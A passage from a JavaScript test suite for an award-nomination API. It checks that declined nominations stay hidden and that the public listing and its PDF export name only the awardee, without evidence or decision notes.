    assertStatus(await cell.post(`/api/v1/nominations/${other.id}/decline`, { comment: 'Evidence not enclosed.' }), 200);
    assertError(await wb.get(`/api/v1/nominations/${nom.id}`), 404);
  });
  it('the public sees the awardees only, without the evidence', async () => {
    const r = await srv.request('GET', '/api/v1/nominations?year=2026');
    assertStatus(r, 200);
    assert.deepEqual(r.json.items.map((x) => x.officer), ['Smt. P. Nayak']);
    assert.ok(!('evidence' in r.json.items[0]));
    assert.ok(!('decision_note' in r.json.items[0]));
    assertError(await srv.request('GET', `/api/v1/nominations/${other.id}`), 404);
    const pdf = await fetch(`${srv.base}/api/v1/nominations?format=pdf&year=2026`);
    const t = spawnSync('pdftotext', ['-layout', '-', '-'], { input: Buffer.from(await pdf.arrayBuffer()), encoding: 'utf8' });
    assert.match(t.stdout, /Awardees/);
    assert.match(t.stdout, /Smt\. P\. Nayak/);
    assert.doesNotMatch(t.stdout, /Sahu/);
  });
});
